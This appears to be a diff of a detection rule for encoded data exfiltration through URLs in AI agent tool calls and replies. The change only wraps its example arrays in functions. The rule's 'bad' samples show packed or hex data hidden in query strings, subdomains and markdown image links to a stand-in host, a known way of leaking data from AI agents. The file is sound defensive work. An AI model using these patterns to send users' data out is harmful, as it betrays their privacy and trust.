@@ -19,7 +19,7 @@ export const encodedExfiltration: Rule<MessageSubject> = {
   summary: 'An address carries words that are packed so that nobody reads them: whoever serves it gets them',
   fix: 'Unpack the words and see whose they are before anything opens this address, or shows the picture behind it.',
   references: ['MCP10', 'MCP01', 'SAFE-T1911', 'SAFE-T1913', 'AML.T0086', 'CoSAI T5'],
-  bad: [
+  bad: () => [
     calling({ url: `https://a.example.test/p?d=${PACKED}` }),
     calling({ url: `https://${HEX}.a.example.test/` }),
     calling({ body: `See https://a.example.test/${HEX}/x.png` }),
@@ -27,7 +27,7 @@ export const encodedExfiltration: Rule<MessageSubject> = {
     reading(`[more](https://a.example.test/?q=${HEX})`),
     failing(`See https://a.example.test/?e=${PACKED.replaceAll('=', '%3D')}`),
   ],
-  good: [
+  good: () => [
     calling({ url: 'https://a.example.test/a?sig=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08' }),
     calling({ url: `https://a.example.test/callback?state=${btoa('{"a":"b","c":"d e f"}')}` }),
     answering('![logo](https://a.example.test/assets/logo-1280x720.png?v=20240101)'),
